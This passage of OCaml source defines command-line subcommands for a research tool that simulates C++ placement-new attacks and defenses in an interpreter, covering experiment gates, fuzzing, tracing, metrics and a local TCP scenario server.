  let run seed trials rate dump replay config =
    let configs =
      match config with Some c -> [ c ] | None -> Config.all
    in
    match replay with
    | Some path -> (
      match Plan.of_string (read_file path) with
      | Error msg ->
        Fmt.epr "%s: %s@." path msg;
        exit 1
      | Ok plan ->
        let escaped = ref false in
        List.iter
          (fun (a : Catalog.t) ->
            List.iter
              (fun config ->
                match Driver.supervise ~config ~plan a with
                | s -> Fmt.pr "%a@.@." Driver.pp_supervised s
                | exception exn ->
                  escaped := true;
                  Fmt.pr "%s under %s: ESCAPED EXCEPTION %s@.@."
                    a.Catalog.id config.Config.name (Printexc.to_string exn))
              configs)
          (E.e9_programs ());
        if !escaped then exit 1)
    | None ->
      if dump then
        for k = 0 to trials - 1 do
          Fmt.pr "%s@." (Plan.to_string (Plan.generate ~rate ~seed:(seed + k) ()))
        done
      else
        report E.pp_e9
          (E.e9 ~seed_base:seed ~seeds:trials ~rate ~configs ())
          E.e9_ok
  in
  Cmd.v
    (Cmd.info "chaos"
       ~doc:"E9: sweep seeded fault plans over attacks and the benign              workload under supervision; assert graceful degradation.")
    Term.(const run $ seed_t $ trials_t $ rate_t $ dump_t $ replay_t
          $ one_config_t)

(* ---- the scenario service: batch / serve / throughput (E12) ---- *)

module Service = Pna_service.Service

let jobs_t =
  Arg.(value & opt int 4 & info [ "j"; "jobs" ] ~docv:"N"
         ~doc:"Worker domains; clamped by the host's recommended domain              count (floor 4, so small hosts still exercise concurrency).")

let max_steps_t =
  Arg.(value & opt (some int) None & info [ "max-steps" ] ~docv:"N"
         ~doc:"Per-job deadline in interpreter steps.")

let metrics_t =
  Arg.(value & flag & info [ "metrics" ]
         ~doc:"Enable telemetry for the run and append a Prometheus-style              dump of the service and default registries.")

let json_t =
  Arg.(value & flag & info [ "json" ]
         ~doc:"Emit the service stats as a JSON object instead of the              pretty-printed block.")

(* With --metrics: the service registry first (memo, queue-wait,
   restore-vs-load), then the process-wide default registry (machine
   defense events) when anything landed there. *)
let dump_metrics svc =
  Fmt.pr "@.%a" Pna_service.Service.pp_prometheus svc;
  Fmt.pr "%a" Metrics.pp_prometheus Metrics.default

let batch_cmd =
  let verify_t =
    Arg.(value & flag & info [ "verify" ]
           ~doc:"Re-run the batch sequentially through the driver and exit              non-zero unless every pooled reply matches.")
  in
  let one_config_t =
    Arg.(value & opt (some config_arg) None
         & info [ "d"; "defense" ] ~docv:"CONFIG"
             ~doc:"Restrict the matrix to one defense configuration              (default: all of them).")
  in
  let run jobs max_steps verify config metrics json =
    if metrics then Telemetry.enable ();
    let configs = match config with Some c -> [ c ] | None -> Config.all in
    let js = Service.matrix_jobs ~configs ?max_steps () in
    let svc = Service.create ~jobs () in
    let workers = Service.jobs svc in
    let replies, secs = Service.timed (fun () -> Service.run_batch svc js) in
    let st = Service.stats svc in
    List.iter (fun r -> Fmt.pr "%a@." Service.pp_reply r) replies;
    if json then
      Fmt.pr "@.%a@." Pna_telemetry.Jsonx.pp (Service.stats_json st)
    else
      Fmt.pr "@.%d jobs on %d workers in %.3fs (%.0f jobs/s)@.%a@."
        (List.length js) workers secs
        (float_of_int (List.length js) /. Float.max secs 1e-9)
        Service.pp_stats st;
    if metrics then dump_metrics svc;
    Service.shutdown svc;
    if verify then begin
      let sequential =
        List.map
          (fun (j : Service.job) ->
            Service.reply_of_result
              (Driver.run ~config:j.Service.j_config ?max_steps
                 j.Service.j_attack))
          js
      in
      let strip (r : Service.reply) = { r with Service.r_cached = false } in
      let mismatches =
        List.filter
          (fun (a, b) -> strip a <> strip b)
          (List.combine replies sequential)
      in
      match mismatches with
      | [] -> Fmt.pr "@.verify: all %d replies match the sequential driver@."
                (List.length js)
      | ms ->
        List.iter
          (fun (a, b) ->
            Fmt.pr "@.MISMATCH@.  pooled:     %a@.  sequential: %a@."
              Service.pp_reply a Service.pp_reply b)
          ms;
        exit 1
    end
  in
  Cmd.v
    (Cmd.info "batch"
       ~doc:"Run the attack x defense matrix through the parallel scenario              service.")
    Term.(const run $ jobs_t $ max_steps_t $ verify_t $ one_config_t
          $ metrics_t $ json_t)

let serve_cmd =
  let requests_t =
    Arg.(value & opt int 200 & info [ "n"; "requests" ] ~docv:"N"
           ~doc:"Length of the synthetic request stream.")
  in
  let seed_t =
    Arg.(value & opt int 1 & info [ "seed" ] ~docv:"N"
           ~doc:"Stream seed; the same seed always yields the same stream.")
  in
  let chaos_every_t =
    Arg.(value & opt int 7 & info [ "chaos-every" ] ~docv:"K"
           ~doc:"Every K-th request runs supervised under a seeded fault              plan (0 disables chaos requests).")
  in
  let run jobs requests seed chaos_every verbose metrics json =
    if metrics then Telemetry.enable ();
    let js = Service.synth_stream ~chaos_every ~seed ~n:requests () in
    let svc = Service.create ~jobs () in
    let workers = Service.jobs svc in
    let replies, secs = Service.timed (fun () -> Service.run_batch svc js) in
    let st = Service.stats svc in
    if verbose then List.iter (fun r -> Fmt.pr "%a@." Service.pp_reply r) replies;
    let wins =
      List.length (List.filter (fun r -> r.Service.r_success) replies)
    in
    if json then Fmt.pr "%a@." Pna_telemetry.Jsonx.pp (Service.stats_json st)
    else
      Fmt.pr "served %d requests (seed %d) on %d workers in %.3fs (%.0f req/s)@.\
              attacks succeeded on %d of %d requests@.%a@."
        requests seed workers secs
        (float_of_int requests /. Float.max secs 1e-9)
        wins requests Service.pp_stats st;
    if metrics then dump_metrics svc;
    Service.shutdown svc
  in
  Cmd.v
    (Cmd.info "serve"
       ~doc:"Serve a deterministic synthetic request stream over the              catalogue and report throughput.")
    Term.(const run $ jobs_t $ requests_t $ seed_t $ chaos_every_t $ verbose_t
          $ metrics_t $ json_t)

let throughput_cmd =
  let repeats_t =
    Arg.(value & opt int 24 & info [ "repeats" ] ~docv:"N"
           ~doc:"Repetitions of the benign request block in the memoization              phases.")
  in
  let run repeats metrics =
    if metrics then Telemetry.enable ();
    report E.pp_e12 (E.e12 ~repeats ()) E.e12_ok;
    if metrics then Fmt.pr "@.%a" Metrics.pp_prometheus Metrics.default
  in
  Cmd.v
    (Cmd.info "throughput"
       ~doc:"E12: scenario-service throughput — snapshot reuse, memoization              and domain scaling.")
    Term.(const run $ repeats_t $ metrics_t)

(* [all_cmd] is defined after the gen section so it can close with the
   E17 gate. *)

(* ---- layout ---- *)

let layout_cmd =
  let run () =
    let env = Pna_minicpp.Interp.build_env
        (Pna_minicpp.Ast.program
           ~classes:
             (Pna_attacks.Schema.base_classes @ Pna_attacks.Schema.virtual_classes)
           [])
    in
    List.iter
      (fun c ->
        Fmt.pr "%a@.@." Pna_layout.Layout.pp (Pna_layout.Layout.of_class env c))
      [ "Student"; "GradStudent"; "StudentV"; "GradStudentV" ]
  in
  Cmd.v
    (Cmd.info "layout" ~doc:"Print the running example's object layouts.")
    Term.(const run $ const ())

(* ---- source ---- *)

let source_cmd =
  let id_t =
    Arg.(required & pos 0 (some string) None & info [] ~docv:"ATTACK-ID")
  in
  let run id =
    match All.find id with
    | None ->
      Fmt.epr "unknown attack %s@." id;
      exit 1
    | Some a ->
      Fmt.pr "// %s — %s (§%s)@.// goal: %s@.@.%a@." a.Catalog.id
        a.Catalog.name a.Catalog.section a.Catalog.goal
        Pna_minicpp.Cpp_print.pp_program a.Catalog.program;
      Option.iter
        (fun h ->
          Fmt.pr "// ---- hardened variant (§5.1 correct coding) ----@.@.%a@."
            Pna_minicpp.Cpp_print.pp_program h)
        a.Catalog.hardened
  in
  Cmd.v
    (Cmd.info "source" ~doc:"Print an attack's program as C++ source.")
    Term.(const run $ id_t)

(* ---- inspect ---- *)

let inspect_cmd =
  let id_t =
    Arg.(required & pos 0 (some string) None & info [] ~docv:"ATTACK-ID")
  in
  let run id config =
    match All.find id with
    | None ->
      Fmt.epr "unknown attack %s@." id;
      exit 1
    | Some a ->
      let m = Pna_minicpp.Interp.load ~config a.Catalog.program in
      Fmt.pr "=== %s — %s ===@.@." a.Catalog.id a.Catalog.name;
      Fmt.pr "memory map:@.%a@.@." Pna_vmem.Vmem.pp (Pna_machine.Machine.mem m);
      Fmt.pr "globals:@.";
      List.iter
        (fun g ->
          let name = g.Pna_minicpp.Ast.g_name in
          match Pna_machine.Machine.global m name with
          | Some (addr, ty) ->
            Fmt.pr "  0x%08x %-14s %a (%d bytes)@." addr name
              Pna_layout.Ctype.pp ty
              (Pna_layout.Layout.sizeof (Pna_machine.Machine.env m) ty)
          | None -> ())
        a.Catalog.program.Pna_minicpp.Ast.p_globals;
      Fmt.pr "@.classes:@.";
      List.iter
        (fun c ->
          Fmt.pr "%a@.@." Pna_layout.Layout.pp
            (Pna_layout.Layout.of_class (Pna_machine.Machine.env m)
               c.Pna_layout.Class_def.c_name))
        a.Catalog.program.Pna_minicpp.Ast.p_classes;
      Fmt.pr "attacker input against this image:@.";
      let ints, strings = a.Catalog.mk_input m in
      Fmt.pr "  ints:    %a@." Fmt.(Dump.list (fun ppf v -> pf ppf "0x%08x" v)) ints;
      Fmt.pr "  strings: %a@." Fmt.(Dump.list Dump.string) strings;
      (* run it and show the post-mortem *)
      Pna_machine.Machine.set_input ~ints ~strings m;
      let o = Pna_minicpp.Interp.run m a.Catalog.program ~entry:a.Catalog.entry in
      Fmt.pr "@.run: %a@." Pna_minicpp.Outcome.pp_status o.Pna_minicpp.Outcome.status;
      Fmt.pr "events:@.";
      List.iter
        (fun e -> Fmt.pr "  %s@." (Pna_machine.Event.to_string e))
        o.Pna_minicpp.Outcome.events;
      Fmt.pr "@.post-mortem globals (value / tainted bytes):@.";
      List.iter
        (fun g ->
          let name = g.Pna_minicpp.Ast.g_name in
          match Pna_machine.Machine.global m name with
          | Some (addr, ty) ->
            let size = Pna_layout.Layout.sizeof (Pna_machine.Machine.env m) ty in
            Fmt.pr "  %-14s 0x%08x  taint %d/%d@." name
              (Pna_vmem.Vmem.read_u32 (Pna_machine.Machine.mem m) addr)
              (Pna_vmem.Vmem.tainted_bytes (Pna_machine.Machine.mem m) addr size)
              size
          | None -> ())
        a.Catalog.program.Pna_minicpp.Ast.p_globals
  in
  Cmd.v
    (Cmd.info "inspect"
       ~doc:"Dump an attack's process image, attacker input and post-mortem.")
    Term.(const run $ id_t $ config_t)

(* ---- coverage (statement-level profiling; formerly `trace`) ---- *)

let coverage_cmd =
  let id_t =
    Arg.(required & pos 0 (some string) None & info [] ~docv:"ATTACK-ID")
  in
  let run id config =
    match All.find id with
    | None ->
      Fmt.epr "unknown attack %s@." id;
      exit 1
    | Some a ->
      let m = Pna_minicpp.Interp.load ~config a.Catalog.program in
      let ints, strings = a.Catalog.mk_input m in
      Pna_machine.Machine.set_input ~ints ~strings m;
      let cov, hook = Pna.Coverage.collector () in
      let o =
        Pna_minicpp.Interp.run ~on_stmt:hook m a.Catalog.program
          ~entry:a.Catalog.entry
      in
      Fmt.pr "%s under %s: %a@.@." a.Catalog.id config.Config.name
        Pna_minicpp.Outcome.pp_status o.Pna_minicpp.Outcome.status;
      Fmt.pr "%a@." Pna.Coverage.pp (cov, a.Catalog.program)
  in
  Cmd.v
    (Cmd.info "coverage"
       ~doc:"Run an attack with statement-level profiling: what executed,              where, how often.")
    Term.(const run $ id_t $ config_t)

(* ---- trace: Chrome Trace Event export of one run ---- *)

let trace_cmd =
  let id_t =
    Arg.(value & pos 0 (some string) None & info [] ~docv:"ATTACK-ID")
  in
  let chaos_seed_t =
    Arg.(value & opt (some int) None & info [ "chaos-seed" ] ~docv:"N"
           ~doc:"Run supervised under the fault plan generated from seed N,              so retry attempts appear as spans.")
  in
  let wire_t =
    Arg.(value & flag & info [ "wire" ]
           ~doc:"Instead of one scenario, run an in-process server plus a              sampled load generator and emit the merged client+server              Chrome trace: every sampled request is one connected span              tree across the wire.")
  in
  let merge_t =
    Arg.(value & opt_all string [] & info [ "merge" ] ~docv:"TRACE.json"
           ~doc:"Merge already-exported Chrome traces (e.g. the client and              server halves of a wire run, from two processes) into one              document on stdout; span linkage survives because it lives              in trace_id/span_id/parent_id args. Repeatable.")
  in
  let wire_n_t =
    Arg.(value & opt int 96 & info [ "wire-requests" ] ~docv:"N"
           ~doc:"Requests for the $(b,--wire) run.")
  in
  let run id config chaos_seed wire merge wire_n =
    match merge with
    | _ :: _ ->
      let traces =
        List.map
          (fun path ->
            match Pna_telemetry.Jsonx.of_string (read_file path) with
            | Ok j -> j
            | Error e ->
              Fmt.epr "%s: %s@." path e;
              exit 1
            | exception Sys_error e ->
              Fmt.epr "%s@." e;
              exit 1)
          merge
      in
      Fmt.pr "%s@."
        (Pna_telemetry.Jsonx.to_string (Trace.merge_chrome traces))
    | [] ->
      if wire then begin
        Telemetry.enable ();
        Trace.reset ();
        let svc = Service.create ~jobs:2 () in
        let server = Server.start svc in
        let r =
          Loadgen.run ~conns:2 ~window:8 ~distinct:12 ~sample_every:4
            ~host:"127.0.0.1" ~port:(Server.port server) ~n:wire_n ~seed:18 ()
        in
        Server.stop server;
        Service.shutdown svc;
        Fmt.epr "%a@." Loadgen.pp r;
        Trace.export_chrome Fmt.stdout
      end
      else
        match id with
        | None ->
          Fmt.epr "trace: need an ATTACK-ID (or --wire / --merge)@.";
          exit 1
        | Some id -> (
          match All.find id with
          | None ->
            Fmt.epr "unknown attack %s@." id;
            exit 1
          | Some a ->
            Telemetry.enable ();
            Trace.reset ();
            (match chaos_seed with
            | None ->
              let r = Driver.run ~config a in
              Fmt.epr "%s under %s: %a@." a.Catalog.id config.Config.name
                Pna_minicpp.Outcome.pp_status
                r.Driver.outcome.Pna_minicpp.Outcome.status
            | Some seed ->
              let plan = Pna_chaos.Plan.generate ~seed () in
              let s = Driver.supervise ~config ~plan a in
              Fmt.epr "%a@." Driver.pp_supervised s);
            (* the trace goes to stdout so `pna trace l13 > trace.json`
               loads straight into Perfetto; the verdict above goes to
               stderr *)
            Trace.export_chrome Fmt.stdout)
  in
  Cmd.v
    (Cmd.info "trace"
       ~doc:"Run one scenario with telemetry on and emit a Chrome Trace Event              JSON file (Perfetto / chrome://tracing) on stdout; or              $(b,--wire) for a traced client+server run, or $(b,--merge) to              combine per-process trace files.")
    Term.(const run $ id_t $ config_t $ chaos_seed_t $ wire_t $ merge_t
          $ wire_n_t)

(* ---- stats: registry dump over a sequential sweep ---- *)

let stats_cmd =
  let id_t =
    Arg.(value & pos 0 (some string) None & info [] ~docv:"ATTACK-ID")
  in
  let run id config =
    let attacks =
      match id with
      | None -> All.attacks
      | Some id -> (
        match All.find id with
        | Some a -> [ a ]
        | None ->
          Fmt.epr "unknown attack %s@." id;
          exit 1)
    in
    Telemetry.enable ();
    List.iter (fun a -> ignore (Driver.run ~config a)) attacks;
    (* the default registry now holds pna_events_total{kind} for the
       sweep; vmem access totals are per machine and reported by E13 *)
    Fmt.pr "%a" Metrics.pp_prometheus Metrics.default
  in
  Cmd.v
    (Cmd.info "stats"
       ~doc:"Run the catalogue (or one attack) under a defense and dump the              default metrics registry in Prometheus text format.")
    Term.(const run $ id_t $ config_t)

(* ---- telemetry: E13 ---- *)

let telemetry_cmd =
  simple "telemetry"
    "E13: telemetry-disabled overhead and trace-completeness gates." (fun () ->
      report E.pp_e13 (E.e13 ()) E.e13_ok)

(* ---- oracle: E14 ---- *)

let oracle_cmd =
  simple "oracle"
    "E14: PNASan completeness — every attack flagged at its first corrupting \
     access, clean runs flag-free, disabled overhead gated." (fun () ->
      report E.pp_e14 (E.e14 ()) E.e14_ok)

(* ---- scaling: E15 ---- *)

let scaling_cmd =
  let jobs_t =
    Arg.(
      value & opt_all int []
      & info [ "j"; "jobs" ] ~docv:"N"
          ~doc:"Worker-domain counts for the scaling sweep (repeatable; \
                default 1 then 4). The gate compares the first count \
                against the last, adapted to the host's core count.")
  in
  let repeats_t =
    Arg.(
      value & opt int 16
      & info [ "repeats" ] ~docv:"N"
          ~doc:"Repetitions of the benign request stream per sweep point.")
  in
  let run jobs repeats =
    let scale = match jobs with [] -> [ 1; 4 ] | js -> js in
    report E.pp_e15 (E.e15 ~repeats ~scale ()) E.e15_ok
  in
  Cmd.v
    (Cmd.info "scaling"
       ~doc:"E15: the Vmem fast path is byte-identical to the per-byte \
             reference path and pays for itself; pooled execution matches \
             the sequential driver and scales across domains.")
    Term.(const run $ jobs_t $ repeats_t)

(* ---- gen: the generative attack catalogue (generate / fuzz / corpus /
   gengate = E17) ---- *)

module Genome = Pna_gen.Genome
module GenBuild = Pna_gen.Build
module GenOracle = Pna_gen.Oracle
module GenFuzz = Pna_gen.Fuzz
module GenCorpus = Pna_gen.Corpus
module GenGate = Pna_gen.Gate
module VmGate = Pna_gen.Vmgate
module CowGate = Pna_gen.Cowgate

let gen_seed_t =
  Arg.(value & opt int 42 & info [ "seed" ] ~docv:"N"
         ~doc:"Generator seed. The genome stream, every oracle verdict and              the corpus bytes are a pure function of it.")

let gen_n_t default =
  Arg.(value & opt int default & info [ "n"; "count" ] ~docv:"N"
         ~doc:"Scenarios to generate.")

let load_corpus path =
  match GenCorpus.load path with
  | Ok gs -> gs
  | Error m ->
    Fmt.epr "%s: %s@." path m;
    exit 1

let pp_genome_line ppf g =
  Fmt.pf ppf "%-14s %s" (Genome.id g) (Genome.summary g)

let show_genome gs id where =
  match List.find_opt (fun g -> Genome.id g = id) gs with
  | None ->
    Fmt.epr "no genome %s in %s@." id where;
    exit 1
  | Some g ->
    Fmt.pr "// %s — %s@.@.%a@." (Genome.id g) (Genome.summary g)
      Pna_minicpp.Cpp_print.pp_program (GenBuild.program_of g)

let generate_cmd =
  let out_t =
    Arg.(value & opt (some string) None & info [ "o"; "output" ] ~docv:"PATH"
           ~doc:"Save the raw (unfiltered) genome stream as a corpus file.")
  in
  let show_t =
    Arg.(value & opt (some string) None & info [ "show" ] ~docv:"GENOME-ID"
           ~doc:"Print one genome's scenario as C++ source instead of the              table.")
  in
  let run seed n out show =
    let rng = Pna_rand.Rand.create (seed lxor 0x9e47f3) in
    let gs = List.init n (fun _ -> Genome.generate rng) in
    (match show with
    | Some id -> show_genome gs id (Fmt.str "the first %d draws of seed %d" n seed)
    | None -> List.iter (fun g -> Fmt.pr "%a@." pp_genome_line g) gs);
    Option.iter
      (fun p ->
        GenCorpus.save p gs;
        Fmt.epr "wrote %d genome(s) to %s@." (List.length gs) p)
      out
  in
  Cmd.v
    (Cmd.info "generate"
       ~doc:"Draw placement-new scenarios from the seeded grammar: list their              shapes, print one as C++ source, or save the stream as a corpus              file.")
    Term.(const run $ gen_seed_t $ gen_n_t 20 $ out_t $ show_t)

let fuzz_cmd =
  let out_t =
    Arg.(value & opt (some string) None & info [ "o"; "corpus" ] ~docv:"PATH"
           ~doc:"Save the coverage-novel corpus (the genomes that lit new              statement or shadow-state features).")
  in
  let repros_t =
    Arg.(value & opt (some string) None & info [ "repros" ] ~docv:"PATH"
           ~doc:"Save the minimized genome of every divergence fingerprint as              a corpus file — the replayable repro artifact.")
  in
  let budget_t =
    Arg.(value & opt int 40 & info [ "minimize-budget" ] ~docv:"N"
           ~doc:"Oracle re-runs the minimizer may spend per divergence.")
  in
  let progress_t =
    Arg.(value & opt int 0 & info [ "progress" ] ~docv:"N"
           ~doc:"Print a deterministic progress line to stderr every N              genomes (0 disables). Counts only — two campaigns with the              same seed print identical lines.")
  in
  let run seed n out repros budget progress =
    let s =
      GenFuzz.campaign ~n ~minimize_budget:budget ~progress_every:progress
        ~seed ()
    in
    Fmt.pr "%a@." GenFuzz.pp s;
    List.iter
      (fun (d : GenFuzz.divergence) ->
        Fmt.pr "divergence [%s] %s@.  first %s, minimized %s, %d hit(s)@."
          (GenOracle.dkind_label d.GenFuzz.c_kind)
          d.GenFuzz.c_detail
          (Genome.id d.GenFuzz.c_genome)
          (Genome.id d.GenFuzz.c_minimized)
          d.GenFuzz.c_hits)
      s.GenFuzz.f_divergences;
    Option.iter
      (fun p ->
        GenCorpus.save p s.GenFuzz.f_corpus;
        Fmt.epr "wrote %d corpus genome(s) to %s@." s.GenFuzz.f_kept p)
      out;
    Option.iter
      (fun p ->
        let ms =
          List.map (fun (d : GenFuzz.divergence) -> d.GenFuzz.c_minimized)
            s.GenFuzz.f_divergences
        in
        GenCorpus.save p ms;
        Fmt.epr "wrote %d minimized repro(s) to %s@." (List.length ms) p)
      repros;
    if s.GenFuzz.f_escaped > 0 then exit 1
  in
  Cmd.v
    (Cmd.info "fuzz"
       ~doc:"Run a generative fuzz campaign: a seeded genome stream through              the differential oracle, with coverage-filtered corpus              collection, divergence dedup + minimization and static-checker              precision/recall. Exits non-zero on any escaped exception.")
    Term.(const run $ gen_seed_t $ gen_n_t 1000 $ out_t $ repros_t $ budget_t
          $ progress_t)

let corpus_cmd =
  let path_t =
    Arg.(required & pos 0 (some string) None & info [] ~docv:"CORPUS")
  in
  let replay_t =
    Arg.(value & flag & info [ "replay" ]
           ~doc:"Run every genome back through the differential oracle and              print its verdict line; exits non-zero if any run escapes.")
  in
  let show_t =
    Arg.(value & opt (some string) None & info [ "show" ] ~docv:"GENOME-ID"
           ~doc:"Print one genome's scenario as C++ source instead of the              table.")
  in
  let run path replay show =
    let gs = load_corpus path in
    match show with
    | Some id -> show_genome gs id path
    | None ->
      Fmt.pr "%s: %d genome(s)@." path (List.length gs);
      let escaped = ref 0 in
      List.iter
        (fun g ->
          if replay then begin
            let rep = GenOracle.run g in
            if rep.GenOracle.o_escaped then incr escaped;
            Fmt.pr "%-14s %-9s %-6s viol:[%s] div:%d@." (Genome.id g)
              rep.GenOracle.o_status
              (if rep.GenOracle.o_write_viol then "hot" else "benign")
              (String.concat ","
                 (List.map
                    (fun (k, n) ->
                      Fmt.str "%s x%d" (Pna_sanitizer.Sanitizer.kind_name k) n)
                    rep.GenOracle.o_viol))
              (List.length rep.GenOracle.o_divergences)
          end
          else Fmt.pr "%a@." pp_genome_line g)
        gs;
      if !escaped > 0 then exit 1
  in
  Cmd.v
    (Cmd.info "corpus"
       ~doc:"Inspect a saved corpus: list genomes, replay them through the              differential oracle, or print one as C++ source.")
    Term.(const run $ path_t $ replay_t $ show_t)

let gengate_cmd =
  let run seed n =
    let g = GenGate.run ~seed ~n () in
    Fmt.pr "%a@." GenGate.pp g;
    if not g.GenGate.e_ok then exit 1
  in
  Cmd.v
    (Cmd.info "gengate"
       ~doc:"E17: the generative-corpus gate — two seeded campaigns agree to              the byte, zero unclassified oracle crashes, every divergence              ships as a minimized reproducing genome, and the static              checker's precision/recall is measured on generated truth.")
    Term.(const run $ gen_seed_t $ gen_n_t 1000)

let vmgate_cmd =
  let run seed n =
    let g = VmGate.run ~seed ~n () in
    Fmt.pr "%a@." VmGate.pp g;
    if not g.VmGate.v_ok then exit 1
  in
  Cmd.v
    (Cmd.info "vmgate"
       ~doc:"E19: the bytecode-engine gate — the compiled VM and the              tree-walking interpreter produce identical outcomes, verdicts,              sanitizer observations and access accounting over the whole              catalogue and a seeded genome stream, and the VM clears a 3x              rewound-run speed floor.")
    Term.(const run $ gen_seed_t $ gen_n_t 1000)

let cowgate_cmd =
  let run seed n =
    let g = CowGate.run ~seed ~n () in
    Fmt.pr "%a@." CowGate.pp g;
    if not g.CowGate.c_ok then exit 1
  in
  Cmd.v
    (Cmd.info "cowgate"
       ~doc:"E20: the copy-on-write equivalence gate — dirty-page rewinds and              thawed image replicas reproduce the full-copy reference              bit-for-bit (results, memory, taint, permissions, shadow map)              over the whole catalogue and a seeded genome stream.")
    Term.(const run $ gen_seed_t $ gen_n_t 300)

let all_cmd =
  simple "all" "Run every experiment (E1-E20)." (fun () ->
      E.run_all Fmt.stdout ();
      (* E17/E19/E20 at sampling counts — the full-stream runs are the
         dedicated [gengate] / [vmgate] / [cowgate] entry points *)
      let g = GenGate.run ~n:300 () in
      Fmt.pr "@.%a@." GenGate.pp g;
      let v = VmGate.run ~n:150 () in
      Fmt.pr "@.%a@." VmGate.pp v;
      let c = CowGate.run ~n:100 () in
      Fmt.pr "@.%a@." CowGate.pp c;
      if not (g.GenGate.e_ok && v.VmGate.v_ok && c.CowGate.c_ok) then exit 1)

(* ---- net: the TCP front end (serve-tcp / loadgen / compact / netgate) ---- *)

let host_t =
  Arg.(value & opt string "127.0.0.1" & info [ "host" ] ~docv:"ADDR"
         ~doc:"Address to bind or connect to.")

let serve_tcp_cmd =
  let port_t =
    Arg.(value & opt int 7341 & info [ "p"; "port" ] ~docv:"PORT"
           ~doc:"Port to listen on (0 picks an ephemeral port).")
  in
  let inflight_t =
    Arg.(value & opt int 64 & info [ "max-inflight" ] ~docv:"N"
           ~doc:"Admission-control cap: requests admitted but unfinished.              Excess is answered with a shed reply and a retry-after hint,              never queued without bound.")
  in
  let memo_log_t =
    Arg.(value & opt (some string) None & info [ "memo-log" ] ~docv:"PATH"
           ~doc:"Persist the memo cache to this append-only log: recovered              on start (a torn tail from a crash is truncated), appended as              workers compute. Compact offline with $(b,compact).")
  in
  let steps_cap_t =
    Arg.(value & opt int 2_000_000 & info [ "max-steps-cap" ] ~docv:"N"
           ~doc:"Ceiling clamped onto every request's step deadline.")
  in
  let loops_t =
    Arg.(value & opt int 1 & info [ "loops" ] ~docv:"N"
           ~doc:"Select-loop domains sharing the listener (accept-fanout).              Each connection is owned by the loop that accepted it for its              whole life; the in-flight and connection caps stay global.")
  in
  let corpus_t =
    Arg.(value & opt (some string) None & info [ "corpus" ] ~docv:"PATH"
           ~doc:"Load a generated corpus and register its scenarios, so              requests can target gen-XXXXXXXX ids alongside the paper              catalogue.")
  in
  let trace_out_t =
    Arg.(value & opt (some string) None & info [ "trace-out" ] ~docv:"PATH"
           ~doc:"With $(b,--metrics): write the server-side Chrome trace here              on drain, for merging with a client trace via              $(b,pna trace --merge).")
  in
  let run jobs host port max_inflight memo_log max_steps_cap loops corpus
      metrics trace_out =
    if metrics || trace_out <> None then Telemetry.enable ();
    Option.iter
      (fun p ->
        let gs = load_corpus p in
        List.iter (fun g -> All.register (GenBuild.scenario g)) gs;
        Fmt.pr "pna: registered %d generated scenario(s) from %s@."
          (List.length gs) p)
      corpus;
    let svc = Service.create ~jobs () in
    let server =
      Server.start
        ~config:
          { Server.default_config with host; port; max_inflight; memo_log;
            max_steps_cap; loops = max 1 loops }
        svc
    in
    Fmt.pr "pna: serving on %s:%d (%d workers, %d loop(s)%s)@." host
      (Server.port server) (Service.jobs svc) (max 1 loops)
      (match memo_log with
      | None -> ""
      | Some p ->
        Fmt.str
          ", memo log %s: %d entries recovered, %d torn bytes dropped, %d \
           duplicate(s) a compaction would drop"
          p
          (Server.recovered server) (Server.torn_bytes server)
          (Server.dup_entries server));
    let stop = ref false in
    let handler = Sys.Signal_handle (fun _ -> stop := true) in
    Sys.set_signal Sys.sigint handler;
    Sys.set_signal Sys.sigterm handler;
    while not !stop do
      Unix.sleepf 0.2
    done;
    Fmt.pr "pna: draining...@.";
    Server.stop server;
    Fmt.pr "%a@." Metrics.pp_prometheus (Server.registry server);
    Fmt.pr "%a@." Service.pp_stats (Service.stats svc);
    Option.iter
      (fun path ->
        let oc = open_out_bin path in
        Fun.protect
          ~finally:(fun () -> close_out oc)
          (fun () -> Trace.export_chrome (Format.formatter_of_out_channel oc));
        Fmt.pr "pna: wrote server trace to %s@." path)
      trace_out;
    Service.shutdown svc
  in
  Cmd.v
    (Cmd.info "serve-tcp"
       ~doc:"Serve the scenario service over TCP: length-prefixed CRC-framed              requests, bounded admission with shed replies, graceful drain on              SIGINT/SIGTERM, optional crash-safe on-disk memo log.")
    Term.(const run $ jobs_t $ host_t $ port_t $ inflight_t $ memo_log_t
          $ steps_cap_t $ loops_t $ corpus_t $ metrics_t $ trace_out_t)

let loadgen_cmd =
  let port_t =
    Arg.(required & opt (some int) None & info [ "p"; "port" ] ~docv:"PORT"
           ~doc:"Server port to drive.")
  in
  let n_t =
    Arg.(value & opt int 10_000 & info [ "n"; "requests" ] ~docv:"N"
           ~doc:"Total requests to issue.")
  in
  let conns_t =
    Arg.(value & opt int 4 & info [ "c"; "conns" ] ~docv:"N"
           ~doc:"Parallel connections (one domain each).")
  in
  let window_t =
    Arg.(value & opt int 32 & info [ "window" ] ~docv:"N"
           ~doc:"Pipelined requests outstanding per connection.")
  in
  let chaos_t =
    Arg.(value & flag & info [ "chaos" ]
           ~doc:"Inject socket faults on the send path: partial writes,              stalls, corrupt bytes, hard resets.")
  in
  let seed_t =
    Arg.(value & opt int 1 & info [ "seed" ] ~docv:"N"
           ~doc:"Request-mix and fault-plan seed.")
  in
  let corpus_t =
    Arg.(value & opt (some string) None & info [ "corpus" ] ~docv:"PATH"
           ~doc:"Draw the request mix from a generated corpus's genome ids              instead of the paper catalogue. The server must have been              started with the same $(b,--corpus) file.")
  in
  let sample_t =
    Arg.(value & opt int 0 & info [ "sample" ] ~docv:"N"
           ~doc:"Wire-trace every Nth request (0 disables): the request              carries a trace context, the server links its spans under              ours, and the client-side trace is exported for merging              with the server's.")
  in
  let trace_out_t =
    Arg.(value & opt (some string) None & info [ "trace-out" ] ~docv:"PATH"
           ~doc:"Write the client-side Chrome trace here after the run              (merge with the server's via $(b,pna trace --merge)).")
  in
  let run host port n conns window chaos seed corpus sample trace_out =
    let targets =
      Option.map
        (fun p -> List.map (fun g -> Genome.id g) (load_corpus p))
        corpus
    in
    if sample > 0 then Telemetry.enable ();
    let r =
      Loadgen.run ?targets ~conns ~window ~chaos ~sample_every:sample ~host
        ~port ~n ~seed ()
    in
    Fmt.pr "%a@." Loadgen.pp r;
    Option.iter
      (fun path ->
        let oc = open_out_bin path in
        Fun.protect
          ~finally:(fun () -> close_out oc)
          (fun () -> Trace.export_chrome (Format.formatter_of_out_channel oc));
        Fmt.epr "wrote client trace to %s@." path)
      trace_out;
    if r.Loadgen.lg_hung > 0 || r.Loadgen.lg_sig_conflicts > 0 then exit 1
  in
  Cmd.v
    (Cmd.info "loadgen"
